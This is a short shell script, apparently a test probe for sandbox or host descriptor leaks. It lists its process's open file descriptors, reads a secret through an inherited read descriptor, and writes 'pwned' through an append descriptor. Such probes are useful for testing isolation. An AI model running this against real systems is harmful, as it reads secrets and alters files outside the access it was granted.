# Lists the open descriptors and uses the ones a careless host leaks:
# $1 is a descriptor opened for reading a secret, $2 one for appending.
ls /proc/self/fd | tr '\n' ' '; echo
cat "/proc/self/fd/$1"
echo pwned >> "/proc/self/fd/$2"
